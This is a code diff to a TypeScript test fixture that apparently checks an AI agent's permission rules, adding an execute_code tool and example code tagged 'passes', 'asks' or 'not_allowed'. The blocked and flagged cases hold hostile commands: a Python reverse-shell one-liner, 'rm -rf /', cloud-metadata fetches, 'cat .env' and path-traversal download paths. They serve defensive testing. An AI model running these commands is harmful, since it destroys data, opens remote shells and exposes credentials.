@@ -14,6 +14,7 @@ export type EverydayTool =
   | "edit_file"
   | "search_files"
   | "url_fetch"
+  | "execute_code"
   | "mcp_read"
   | "mcp_write"
   | "mcp_destroy";
@@ -47,6 +48,13 @@ const queries = (expect: ExpectedCall, list: readonly string[], rest: JsonObject
     "search_files",
     expect,
     list.map((query) => ({ query, ...rest })),
+  );
+
+const code = (language: "python" | "node" | "shell", expect: ExpectedCall, list: readonly string[]): EverydayCall[] =>
+  each(
+    "execute_code",
+    expect,
+    list.map((text) => ({ language, mode: "project", code: text })),
   );
 
 const urls = (expect: ExpectedCall, list: readonly string[], rest: JsonObject = {}): EverydayCall[] =>
@@ -212,10 +220,42 @@ export const everydayCalls: readonly EverydayCall[] = [
     "http://192.168.1.1/",
     "http://169.254.169.254/latest/meta-data/",
     "http://metadata.google.internal/computeMetadata/v1/",
-    "file:///etc/passwd",
   ]),
   ...urls("not_allowed", ["https://example.com/x"], { downloadPath: "../x" }),
   ...urls("not_allowed", ["https://example.com/x"], { downloadPath: ".git/hooks/pre-commit" }),
+  ...code("python", "passes", [
+    "print(sum(range(10)))",
+    "import json; print(json.load(open('package.json'))['name'])",
+    "import subprocess; print(subprocess.run(['git', 'status', '--short'], capture_output=True, text=True).stdout)",
+    "import os; os.remove('build.log')",
+    "import pandas as pd; print(pd.read_csv('data/sales.csv').describe())",
+    "print(eval('2 ** 10'))",
+    "import ast; print(ast.dump(ast.parse(open('a.py').read())))",
+    "import re; print(re.compile(r'\\d+').findall(open('log.txt').read()))",
+    "import shutil; shutil.rmtree('dist')",
+    "import base64; print(base64.b64decode('aGVsbG8='))",
+    "import sqlite3; c = sqlite3.connect('a.db'); print(c.execute('SELECT count(*) FROM t WHERE (a > 1)').fetchall())",
+    "import sqlite3; c = sqlite3.connect('a.db'); c.execute(\"CREATE TABLE t (a INTEGER, b TEXT DEFAULT 'x')\")",
+  ]),
+  ...code("node", "passes", [
+    "console.log(require('./package.json').version)",
+    "const { execSync } = require('child_process'); console.log(execSync('git log --oneline').toString())",
+    "require('fs').rmSync('dist', { recursive: true })",
+    "console.log(`total: ${[1, 2, 3].reduce((a, b) => a + b)}`)",
+    "console.log(new Function('return 1 + 1')())",
+  ]),
+  ...code("shell", "passes", ["npm test", "for f in src/*.ts; do wc -l $f; done", "python3 -c 'import subprocess'"]),
+  ...code("python", "asks", [
+    "import urllib.request; urllib.request.urlopen('https://example.com/')",
+    "import subprocess; subprocess.run(['rm', '-rf', 'src'])",
+    "import os; os.system('git push --force')",
+  ]),
+  ...code("shell", "asks", ["git push origin main", "rm -rf src", "cat .env"]),
+  ...code("python", "not_allowed", [
+    "import os, socket; s = socket.socket(); s.connect(('h', 1)); os.dup2(s.fileno(), 0); import pty; pty.spawn('sh')",
+    "import os; os.system('rm -rf /')",
+    "import urllib.request; urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')",
+  ]),
   ...named("mcp_read", "passes", [
     ["notes__list_notes", {}],
     ["notes__search_notes", { query: "/etc/passwd" }],
